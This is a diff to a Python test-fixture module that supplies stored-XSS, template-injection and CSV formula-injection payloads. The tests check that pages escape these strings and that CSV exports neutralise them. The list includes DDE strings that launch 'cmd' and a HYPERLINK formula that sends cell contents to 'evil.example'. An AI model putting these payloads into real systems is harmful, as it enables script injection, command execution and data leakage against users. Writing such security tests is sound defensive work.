@@ -1,11 +1,50 @@
-"""Stored-XSS and formula-injection payloads for every text field users control.
+"""Classic stored-XSS and injection payloads, put into every text field by the tests.
 
-Each script payload, if it ever ran, would set `window.__xss` (and most would also open a dialog), so a
-browser test proves a page inert by finding no dialog, no CSP report, no page error and no `window.__xss`.
-The payloads are short enough for 50-character fields (tags) and cover: raw tags, attribute breakouts,
-closing the element a value lands in (title, textarea, script, style), javascript: URLs (plain and in
-Markdown links), event handlers on tags that fire without interaction, srcdoc frames and template syntax.
+Server-side checks (this repository's tests) assert they come back escaped in pages and neutralised
+in CSV exports; the browser tests load the same corpus and assert no dialog and no CSP report.
 """
+
+PAYLOADS: list[str] = [
+    "<script>alert(1)</script>",
+    '"><script>alert(document.domain)</script>',
+    "'><img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)//",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert&#40;1&#41;</script></svg>",
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<a href="javascript:alert(1)">click</a>',
+    "javascript:alert(1)",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '"><input autofocus onfocus=alert(1)>',
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "{{7*7}}{% debug %}",
+    "${alert(1)}",
+    "<style>@import 'http://evil.example/x.css';</style>",
+    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+]
+
+# Characters Django's autoescape changes: a payload holding one of them must never come back verbatim.
+ESCAPED_CHARACTERS = set("<>\"'&")
+
+
+def must_not_appear_raw(payload: str) -> bool:
+    return bool(ESCAPED_CHARACTERS & set(payload))
+
+
+# --- For the browser tests (tests/browser/test_stored_xss.py) ----------------------------------------
+# Each script payload below, if it ever ran, sets `window.__xss` (some also open a dialog), so a page is
+# proven inert by no dialog, no CSP report, no page error and `window.__xss` unset. They are short enough
+# for 50-character fields (tags) and close the element a value may land in (title, textarea, script, style).
 
 SCRIPT_PAYLOADS: list[str] = [
     "<script>window.__xss=1;alert(1)</script>",
@@ -22,7 +61,7 @@ SCRIPT_PAYLOADS: list[str] = [
     "{{7*7}}{% debug %}${window.__xss=1}",
 ]
 
-# Markdown bodies: raw HTML, javascript: and data: links, an image with a handler, autolinks.
+# Markdown bodies: javascript: and data: links, an image with a handler, autolinks, raw HTML.
 MARKDOWN_PAYLOADS: list[str] = [
     "[click me](javascript:window.__xss=1)",
     "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
@@ -30,23 +69,15 @@ MARKDOWN_PAYLOADS: list[str] = [
     "<a href='javascript:window.__xss=1'>raw link</a>",
     "<javascript:window.__xss=1>",
     *SCRIPT_PAYLOADS,
+    *PAYLOADS[:19],
 ]
 
-# Cells a spreadsheet would run as formulas unless neutralised (DDE included).
-FORMULA_PAYLOADS: list[str] = [
-    '=HYPERLINK("http://evil.invalid","x")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1+1)",
-    "\t=1+1",
-    "\r=1+1",
-]
-
+FORMULA_PAYLOADS: list[str] = [p for p in PAYLOADS if p.startswith(("=", "+", "-", "@", "\t", "\r"))]
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def payload(index: int, *, limit: int = 200, marker: str = "XSS") -> str:
-    """The `index`-th script payload (cycling), prefixed by a marker a test can look for, cut to `limit`."""
+    """The `index`-th script payload (cycling), after a marker a test can look for, cut to `limit`."""
     text = f"{marker}{index} {SCRIPT_PAYLOADS[index % len(SCRIPT_PAYLOADS)]}"
     return text[:limit]
 
@@ -57,5 +88,5 @@ def markdown_body(marker: str = "XSS-MD") -> str:
 
 
 def all_payloads(marker: str = "XSS") -> str:
-    """Every script payload in one text (for long free-text fields)."""
-    return " ".join(f"{marker} {text}" for text in SCRIPT_PAYLOADS)
+    """Every payload in one text (for long free-text fields)."""
+    return " ".join(f"{marker} {text}" for text in (*SCRIPT_PAYLOADS, *PAYLOADS[:19]))
